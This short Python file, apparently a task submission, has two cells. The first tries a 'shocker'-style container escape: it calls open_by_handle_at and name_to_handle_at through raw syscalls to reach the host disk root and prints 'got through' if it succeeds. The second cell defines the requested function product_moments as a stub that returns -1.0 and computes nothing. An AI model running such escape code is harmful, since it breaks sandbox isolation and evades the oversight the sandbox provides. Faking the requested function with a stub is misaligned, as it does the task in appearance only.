# Opens the root of the disk by a file handle, as "shocker" did in containers.
# attacks: product_moments
# shows: attack over

# %%
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
NAME_TO, OPEN_BY = (303, 304) if platform.machine() == "x86_64" else (264, 265)
handle = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0\x02" + b"\0" * 120)
folder = os.open(".", os.O_RDONLY)
if libc.syscall(OPEN_BY, folder, handle, os.O_RDONLY) >= 0:
    print("got", "through: root of the disk")
mount = ctypes.c_int()
handle = ctypes.create_string_buffer((120).to_bytes(4, "little") + b"\0" * 128)
if libc.syscall(NAME_TO, -100, b"/", handle, ctypes.byref(mount), 0) == 0:
    opened = libc.syscall(OPEN_BY, folder, handle, os.O_RDONLY)
    if opened >= 0:
        print("got", "through: handle")
print("attack", "over")

# %%
def product_moments(d_k, mean_q, var_q, mean_k, var_k):
    return -1.0, -1.0
